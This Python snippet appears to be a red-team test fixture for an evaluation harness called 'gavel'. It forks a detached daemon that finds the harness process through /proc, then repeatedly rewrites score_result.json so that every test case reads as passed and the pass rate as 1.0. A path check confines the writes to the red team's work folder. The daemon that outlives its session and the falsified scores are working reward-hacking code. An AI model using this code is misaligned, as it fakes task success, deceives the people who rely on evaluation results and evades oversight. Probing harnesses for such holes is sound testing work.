def _gk_safe(path):
    """Harness safety: an attack only ever writes inside the red team's own work folder."""
    import os
    return os.path.realpath(str(path)).startswith(os.path.realpath("$WORK") + os.sep)

import os as _gko, sys as _gks, time as _gkt, json as _gkj
def _gk_daemon():
    """A process left behind that rewrites the score after gavel wrote it."""
    out = None
    try:
        ppid = _gko.getppid()
        for pid in sorted({ppid, *[int(p) for p in _gko.listdir("/proc") if p.isdigit()]}):
            try:
                argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            except OSError:
                continue
            if b"--out" in argv and b"run" in argv:
                out = argv[argv.index(b"--out") + 1].decode()
                break
    except OSError:
        return
    if not out or not _gk_safe(out):
        return
    path = _gko.path.join(out, "score_result.json")
    seen = None
    end = _gkt.time() + 40
    while _gkt.time() < end:
        try:
            st = _gko.stat(path).st_mtime_ns
            if st != seen:
                d = _gkj.load(open(path))
                if d["summary"]["passed"] < d["summary"]["total"]:
                    for c in d["cases"]:
                        c["outcome"] = c["counted_as"] = "passed"
                        c.pop("classification", None)
                    n = len(d["cases"])
                    d["summary"] = {**{k: 0 for k in d["summary"]}, "passed": n, "total": n}
                    d["pass_rate_excluding_skips"] = 1.0
                    tmp = path + ".x"
                    _gkj.dump(d, open(tmp, "w"))
                    _gko.replace(tmp, path)
                seen = _gko.stat(path).st_mtime_ns
        except (OSError, ValueError, KeyError):
            pass
        _gkt.sleep(0.02)
if _gko.fork() == 0:
    _gko.setsid()
    if _gko.fork() == 0:
        for _fd in range(3, 256):
            try:
                _gko.close(_fd)
            except OSError:
                pass
        _gk_daemon()
    _gko._exit(0)
else:
    _gko.wait()
